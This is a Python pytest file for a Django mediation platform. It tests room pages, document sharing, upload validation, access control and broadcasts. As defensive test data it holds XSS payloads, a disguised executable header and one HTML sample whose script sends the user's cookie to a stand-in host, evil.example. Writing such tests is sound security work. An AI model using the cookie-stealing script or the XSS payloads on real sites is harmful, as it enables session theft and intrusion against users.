"""Room pages over HTTP: the page, document upload and download, and the
on-commit broadcasts of room services (recipients and payload)."""

import io
import uuid
import zipfile

import pytest
from asgiref.sync import async_to_sync
from channels.layers import get_channel_layer
from django.test import Client
from django.urls import reverse

from odr.models import AuditAction, AuditEvent
from sessions.models import EventKind, RoomDocument, RoomEvent
from sessions.services import rooms
from tests.sealed import document_bytes, document_name

PDF = b"%PDF-1.4\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n"
PNG = bytes.fromhex("89504e470d0a1a0a0000000d49484452000000010000000108060000001f15c489") + b"\x00" * 32


def _docx() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as z:
        z.writestr("[Content_Types].xml", "<Types/>")
        z.writestr("word/document.xml", "<w:document/>")
    return buffer.getvalue()


def _upload(name: str, data: bytes, content_type: str = "application/octet-stream"):
    from django.core.files.uploadedfile import SimpleUploadedFile

    return SimpleUploadedFile(name, data, content_type=content_type)


@pytest.fixture
def session(active_case, mediator, party_a, party_b):
    """A session in progress: both parties admitted to the joint room, a caucus with the claimant."""
    joint = rooms.room_joint(active_case)
    rooms.session_start(room=joint, user=mediator)
    claimant = active_case.participants.get(user=party_a)
    respondent = active_case.participants.get(user=party_b)
    for participant in (claimant, respondent):
        rooms.lobby_admit(room=joint, user=mediator, participant_id=participant.public_id)
    caucus = rooms.caucus_open(room=joint, user=mediator, party_id=claimant.public_id)
    return {"joint": joint, "caucus": caucus, "claimant": claimant, "respondent": respondent}


def _client(user) -> Client:
    client = Client()
    client.force_login(user)
    return client


def test_when_party_opens_joint_room_then_latest_messages_come_with_the_page(session, party_a):
    joint = session["joint"]
    payload = '<script>alert("x")</script>'
    rooms.message_post(room=joint, user=party_a, client_id=uuid.uuid4(), body=payload)
    response = _client(party_a).get(reverse("mediation:room", args=[joint.public_id]))
    assert response.status_code == 200
    config = response.context["client"]
    assert config["events"][-1]["body"] == payload
    html = response.content.decode()
    assert payload not in html  # json_script escapes it; the client renders it as text
    assert "\\u003Cscript\\u003E" in html


def test_when_other_party_opens_a_caucus_then_not_found_like_a_random_id(session, party_b):
    client = _client(party_b)
    caucus = client.get(reverse("mediation:room", args=[session["caucus"].public_id]))
    random = client.get(reverse("mediation:room", args=[uuid.uuid4()]))
    assert caucus.status_code == random.status_code == 404


def test_when_anonymous_opens_a_room_then_sent_to_login(session):
    response = Client().get(reverse("mediation:room", args=[session["joint"].public_id]))
    assert response.status_code == 302
    assert "/accounts/login/" in response["Location"]


def test_when_party_waits_in_lobby_then_page_carries_no_room_content(active_case, mediator, party_a, party_b):
    joint = rooms.room_joint(active_case)
    rooms.session_start(room=joint, user=mediator)
    rooms.message_post(room=joint, user=mediator, client_id=uuid.uuid4(), body="before you came in")
    response = _client(party_a).get(reverse("mediation:room", args=[joint.public_id]))
    assert response.status_code == 200
    assert response.context["client"]["events"] == []
    assert "before you came in" not in response.content.decode()


@pytest.mark.parametrize(
    "name, data, stored_type",
    [
        ("statement.pdf", PDF, "application/pdf"),
        ("photo.png", PNG, "image/png"),
        ("terms.docx", _docx(), "application/vnd.openxmlformats-officedocument.wordprocessingml.document"),
        ("notes.txt", "Қазақ тілі, русский, English\n".encode(), "text/plain"),
    ],
)
def test_when_allowed_file_is_shared_then_stored_privately_and_sequenced(session, party_a, settings, name, data, stored_type):
    joint = session["joint"]
    response = _client(party_a).post(
        reverse("mediation:room_documents", args=[joint.public_id]), {"file": _upload(name, data)}
    )
    assert response.status_code == 201, response.content
    document = RoomDocument.objects.get()
    assert document.content_type == stored_type
    assert document_name(document) == name
    assert document_bytes(document) == data
    path = document.file.path
    assert path.startswith(str(settings.STORAGES["private"]["OPTIONS"]["location"]))
    assert name not in path  # never the uploader's name on disk
    event = RoomEvent.objects.get(room=joint, kind=EventKind.DOCUMENT)
    assert event.document == document and event.seq == joint.events.count()
    assert AuditEvent.objects.filter(action=AuditAction.DOCUMENT_SHARED).count() == 1


@pytest.mark.parametrize(
    "name, data",
    [
        ("statement.pdf", b"<html><script>alert(1)</script></html>\x00"),  # named PDF, is not
        ("run.pdf", b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff"),  # a Windows executable
        ("notes.txt", b"plain text with a control character \x1b[31m"),
        ("archive.docx", b"PK\x03\x04" + b"\x00" * 60),  # a zip that is not a document
    ],
)
def test_when_file_type_is_not_allowed_by_content_then_refused_with_a_reason(session, party_a, name, data):
    response = _client(party_a).post(
        reverse("mediation:room_documents", args=[session["joint"].public_id]),
        {"file": _upload(name, data, "application/pdf")},
    )
    assert response.status_code == 400
    assert response.json()["error"]["code"] == "bad_request"
    assert "cannot be shared" in response.json()["error"]["detail"]
    assert not RoomDocument.objects.exists()
    assert not RoomEvent.objects.filter(kind=EventKind.DOCUMENT).exists()


def test_when_file_is_over_the_limit_then_413(session, party_a, settings):
    settings.ODR_UPLOAD_MAX_BYTES = 1024
    response = _client(party_a).post(
        reverse("mediation:room_documents", args=[session["joint"].public_id]),
        {"file": _upload("big.txt", b"a" * 2048)},
    )
    assert response.status_code == 413
    assert response.json()["error"]["code"] == "too_large"
    assert not RoomDocument.objects.exists()


def test_when_upload_has_no_csrf_token_then_refused(session, party_a):
    client = Client(enforce_csrf_checks=True)
    client.force_login(party_a)
    response = client.post(
        reverse("mediation:room_documents", args=[session["joint"].public_id]), {"file": _upload("a.pdf", PDF)}
    )
    assert response.status_code == 403
    assert not RoomDocument.objects.exists()


def test_when_muted_party_shares_then_refused(session, party_a, mediator):
    rooms.participant_mute(room=session["joint"], user=mediator, participant_id=session["claimant"].public_id)
    response = _client(party_a).post(
        reverse("mediation:room_documents", args=[session["joint"].public_id]), {"file": _upload("a.pdf", PDF)}
    )
    assert response.status_code == 403
    assert response.json()["error"]["code"] == "muted"


def test_when_document_is_downloaded_then_attachment_nosniff_and_exact_bytes(session, party_a, party_b):
    joint = session["joint"]
    _client(party_a).post(reverse("mediation:room_documents", args=[joint.public_id]), {"file": _upload("s.pdf", PDF)})
    document = RoomDocument.objects.get()
    response = _client(party_b).get(reverse("mediation:room_document", args=[joint.public_id, document.public_id]))
    assert response.status_code == 200
    assert response["Content-Disposition"].startswith("attachment;")
    assert response["X-Content-Type-Options"] == "nosniff"
    assert b"".join(response.streaming_content) == PDF


HTML = b"<!doctype html><script>fetch('https://evil.example/'+document.cookie)</script>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"></svg>'


@pytest.mark.parametrize(
    "name, data, shown",
    [
        ("offer.html", HTML, "offer.html.txt"),
        ("offer.HTM", HTML, "offer.HTM.txt"),
        ("logo.svg", SVG, "logo.svg.txt"),
        ("notes.TXT", b"plain words\n", "notes.TXT"),
        ("scan.pdf", PDF, "scan.pdf"),
        ("scan.pdf.html", PDF, "scan.pdf.html.pdf"),
        ("photo", PNG, "photo.png"),
        ("photo.jpeg.", PNG, "photo.jpeg.png"),
    ],
)
def test_when_a_file_is_shared_then_its_name_ends_as_what_it_is_so_it_never_opens_as_a_web_page(
    session, party_a, party_b, name, data, shown
):
    joint = session["joint"]
    response = _client(party_a).post(
        reverse("mediation:room_documents", args=[joint.public_id]), {"file": _upload(name, data, "text/html")}
    )
    assert response.status_code == 201, response.content
    assert response.json()["document"]["name"] == shown
    document = RoomDocument.objects.get()
    assert document_name(document) == shown

    download = _client(party_b).get(reverse("mediation:room_document", args=[joint.public_id, document.public_id]))

    assert f'filename="{shown}"' in download["Content-Disposition"]
    assert download["Content-Type"] == document.content_type


def test_when_a_document_shared_before_the_rule_is_downloaded_then_it_gets_the_extension_of_its_type(
    session, party_a, party_b
):
    joint = session["joint"]
    _client(party_a).post(reverse("mediation:room_documents", args=[joint.public_id]), {"file": _upload("a.txt", HTML)})
    document = RoomDocument.objects.get()
    from sessions.services import confidentiality

    cipher = confidentiality.case_cipher(joint.case)
    document.name_sealed = cipher.seal_text("legacy.html", aad=confidentiality.document_aad(document, "name"))
    document.save(update_fields=["name_sealed"])

    download = _client(party_b).get(reverse("mediation:room_document", args=[joint.public_id, document.public_id]))

    assert 'filename="legacy.html.txt"' in download["Content-Disposition"]


def test_when_caucus_document_is_requested_by_the_other_party_then_not_found(session, party_a, party_b, mediator):
    caucus = session["caucus"]
    response = _client(party_a).post(
        reverse("mediation:room_documents", args=[caucus.public_id]), {"file": _upload("private.pdf", PDF)}
    )
    assert response.status_code == 201
    document = RoomDocument.objects.get()
    url = reverse("mediation:room_document", args=[caucus.public_id, document.public_id])
    assert _client(party_b).get(url).status_code == 404
    # Nor through the joint room's URL with the caucus document's id.
    forged = reverse("mediation:room_document", args=[session["joint"].public_id, document.public_id])
    assert _client(party_b).get(forged).status_code == 404
    assert _client(mediator).get(url).status_code == 200


def test_when_message_is_posted_then_broadcast_after_commit_to_the_room_group_only(
    session, party_a, django_capture_on_commit_callbacks
):
    layer = get_channel_layer()
    joint_listener = async_to_sync(layer.new_channel)()
    caucus_listener = async_to_sync(layer.new_channel)()
    async_to_sync(layer.group_add)(session["joint"].group, joint_listener)
    async_to_sync(layer.group_add)(session["caucus"].group, caucus_listener)
    client_id = uuid.uuid4()
    with django_capture_on_commit_callbacks(execute=False) as callbacks:
        event, created = rooms.message_post(room=session["joint"], user=party_a, client_id=client_id, body="hello")
    assert created and callbacks  # nothing is sent before the commit
    for callback in callbacks:
        callback()
    message = async_to_sync(layer.receive)(joint_listener)
    while message["type"] != "room.sequenced":
        message = async_to_sync(layer.receive)(joint_listener)
    assert message["seq"] == event.seq
    assert message["frame"]["body"] == "hello"
    assert message["frame"]["client_id"] == str(client_id)
    assert message["frame"]["author"]["role"] == "claimant"

    async def nothing_for_caucus():
        import asyncio

        try:
            await asyncio.wait_for(layer.receive(caucus_listener), 0.3)
        except TimeoutError:
            return True
        return False

    assert async_to_sync(nothing_for_caucus)()


def test_when_case_page_lists_rooms_then_each_person_sees_only_their_own(session, party_a, party_b, mediator):
    def links(user):
        response = _client(user).get(reverse("mediation:case_detail", args=[session["joint"].case.public_id]))
        return {str(link.room.public_id) for link in response.context["rooms"] if link.room}

    joint, caucus = str(session["joint"].public_id), str(session["caucus"].public_id)
    assert links(party_a) == {joint, caucus}
    assert links(party_b) == {joint}
    assert links(mediator) == {joint, caucus}
